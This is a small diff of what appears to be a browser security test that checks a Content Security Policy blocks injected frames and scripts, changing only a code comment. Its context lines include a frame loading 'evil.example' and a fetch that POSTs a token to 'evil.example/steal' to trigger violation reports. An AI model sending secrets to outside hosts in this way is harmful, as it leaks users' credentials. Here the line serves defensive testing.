@@ -48,7 +48,7 @@ test('blocks injected scripts: inline, as a handler, as a link, from another hos
       frame.src = 'https://evil.example/';
       document.body.append(frame);
       await fetch('https://evil.example/steal', { method: 'POST', body: 'token' }).catch(() => undefined);
-      // The frame's report comes last. Wait a little longer for reports that must not come.
+      // The frame's report arrives last. Keep waiting a little, in case reports arrive that shouldn't.
       for (let waited = 0; waited < 5000 && !seen.some((one) => one.startsWith('frame-src')); waited += 50)
         await new Promise((resolve) => setTimeout(resolve, 50));
       await new Promise((resolve) => setTimeout(resolve, 100));
